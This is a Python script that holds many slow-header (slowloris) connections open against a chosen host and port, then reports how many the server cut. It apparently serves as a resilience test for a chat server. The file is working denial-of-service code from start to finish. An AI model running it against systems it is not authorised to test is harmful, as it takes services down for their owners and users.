#!/usr/bin/env python3
"""Hold N slow-header (slowloris) connections open against HOST:PORT for SECONDS.

Each connection sends a request line and then one more header line every INTERVAL seconds,
never the empty line that ends the head; a connection the server closes is opened again at
once, as an attacker would. Prints one line at the end:

    SLOW conns=500 opened=1234 cut=734 max_open=500 open_at_end=500
"""
import asyncio
import sys


async def one(host, port, interval, stats, stop):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        stats["opened"] += 1
        stats["open"] += 1
        stats["max_open"] = max(stats["max_open"], stats["open"])
        try:
            writer.write(b"POST /v1/chat HTTP/1.1\r\nHost: t\r\n")
            while not stop.is_set():
                await writer.drain()
                try:
                    # The server closing shows up as EOF here.
                    data = await asyncio.wait_for(reader.read(1024), timeout=interval)
                    if not data:
                        stats["cut"] += 1
                        break
                except asyncio.TimeoutError:
                    writer.write(b"X-Slow: 1\r\n")
        except (ConnectionError, OSError):
            stats["cut"] += 1
        finally:
            stats["open"] -= 1
            writer.close()


async def main():
    host, port, conns, seconds, interval = (
        sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5]))
    stats = {"opened": 0, "open": 0, "max_open": 0, "cut": 0}
    stop = asyncio.Event()
    tasks = [asyncio.create_task(one(host, port, interval, stats, stop)) for _ in range(conns)]
    await asyncio.sleep(seconds)
    open_at_end = stats["open"]
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(f"SLOW conns={conns} opened={stats['opened']} cut={stats['cut']} "
          f"max_open={stats['max_open']} open_at_end={open_at_end}", flush=True)


if __name__ == "__main__":
    asyncio.run(main())
